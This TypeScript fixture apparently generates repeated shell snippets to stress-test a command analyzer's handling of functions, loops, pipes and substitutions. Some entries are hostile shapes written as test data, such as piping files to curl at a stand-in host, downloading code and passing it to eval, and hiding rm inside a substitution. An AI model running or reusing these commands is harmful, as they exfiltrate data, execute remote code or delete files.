import { numbered, repeated, shapes } from './make.ts'

const LOOP = 'for a in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16; do '

/** What is read more than once: functions, loops, and what flows from one command into another. */
export const FLOWING = shapes('flow', {
  'calls of one function': repeated('f x;', 'f(){ a $1; b $1; c $1 | d; }; '),
  'calls that differ': numbered((i) => `f ${i};`, 'f(){ a $1 | b; }; '),
  'functions that call two': numbered((i) => `f${i}(){ f${i + 1} a; f${i + 1} b; }; `, '', 'f0'),
  'a function that grows its arguments': repeated('f a;', 'f(){ f "$1$1" "$@" "$@"; }; '),
  'loops around many commands': repeated('x $a "$a" $a/$a;', LOOP, 'done'),
  'loops in loops': (size) => LOOP.repeat(12) + repeated('x $a$a$a ')(size) + '; done',
  'a program that is one of several': repeated('$T x;', 'if a; then T=r; else T=s; fi; '),
  'values that hold substitutions': repeated("x='$(rm a)';", '', ' [[ a ]]'),
  'variables that hold commands': repeated("EDITOR='a;b;c;d;e' cmd;"),
  'pipes into senders': repeated('cat a b c d | curl -d @- e.com;'),
  'a pipe of many readers into a sender': repeated('cat a b |', '', 'curl x'),
  'names into xargs': repeated('find / -type f | xargs cat;'),
  'process substitutions': repeated('a > >(b);'),
  'downloads in variables': repeated('x=$(curl e);', '', 'eval "$x"'),
  'names for names': numbered((i) => `declare -n a${i}=a${i + 1};`, '', '$a0 x'),
  'commands among options': repeated('rm ', 'bwrap '),
  'subscripts that run': repeated("test -v 'a[$(x)]';"),
  'operands that are scripts': repeated("'a b' ", 'hyperfine '),
  'values that double': repeated('if a; then x=$x$x; fi;', '', '$x'),
})
